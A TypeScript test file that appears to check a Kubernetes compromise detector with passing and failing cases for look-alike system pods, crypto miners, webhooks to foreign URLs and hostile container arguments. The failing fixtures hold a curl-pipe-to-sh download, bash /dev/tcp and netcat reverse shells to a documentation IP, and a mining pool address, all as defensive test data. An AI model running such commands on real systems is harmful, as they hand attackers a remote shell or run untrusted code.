import { type Case, testFamily } from './cases.ts';
import { deployment, object } from './objects.ts';

const REFUSED: Case = { forbidden: ['/pods'] };
const CONTAINER = 'spec.template.spec.containers[0]';
const runs = (...args: readonly string[]): Case => ({ objects: [deployment({ args })] });
const named = (name: string, namespace: string, image: string): Case => ({
  objects: [deployment({ image }, {}, { name, namespace })],
});
const webhook = (clientConfig: object, kind = 'MutatingWebhookConfiguration') =>
  object('admissionregistration.k8s.io/v1', kind, 'inject', {
    webhooks: [{ name: 'a.example', clientConfig }],
  });
const to = (url: string): Case => ({ objects: [webhook({ url })] });

testFamily('compromise', {
  'look-alike-system-pod': {
    fail: {
      ...named('kube-proxy-x1', 'default', 'docker.io/someone/proxy:2'),
      path: `${CONTAINER}.image`,
      message: /^Seen: .* This may be harmless; ask who made it\.$/,
    },
    pass: [
      named('kube-proxy', 'kube-system', 'registry.k8s.io/kube-proxy:v1.35.0'),
      named('web', 'default', 'docker.io/library/nginx:1.29'),
      named('etcd', 'data', 'registry.example/etcd:3.6'),
    ],
    unknown: REFUSED,
  },
  miner: {
    fail: [
      { objects: [deployment({ image: 'docker.io/someone/xmrig:6' })], path: `${CONTAINER}.image` },
      { ...runs('-o', 'stratum+tcp://pool.example:3333'), path: `${CONTAINER}.args[1]` },
    ],
    pass: runs('--mine=true'),
    unknown: REFUSED,
  },
  'shell-download': {
    fail: { ...runs('curl -s http://192.0.2.7/x | sh'), path: `${CONTAINER}.args[0]` },
    pass: runs('curl -s http://web/healthz'),
    unknown: REFUSED,
  },
  'reverse-shell': {
    fail: [runs('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'), runs('nc 192.0.2.7 4444 -e /bin/sh')],
    pass: runs('bash -c "exec server"'),
    unknown: REFUSED,
  },
  'webhook-to-foreign-url': {
    fail: {
      ...to('https://collect.example/mutate'),
      path: 'webhooks[0].clientConfig.url',
      message: /sends objects to collect\.example\./,
    },
    pass: [
      to('https://127.0.0.1:23443/mutate'),
      to('https://hook.shop.svc/mutate'),
      {
        objects: [webhook({ service: { namespace: 'shop', name: 'web' } }, 'ValidatingWebhookConfiguration')],
      },
    ],
    unknown: { forbidden: ['admissionregistration.k8s.io/mutatingwebhookconfigurations'] },
    'not-applicable': {},
  },
});
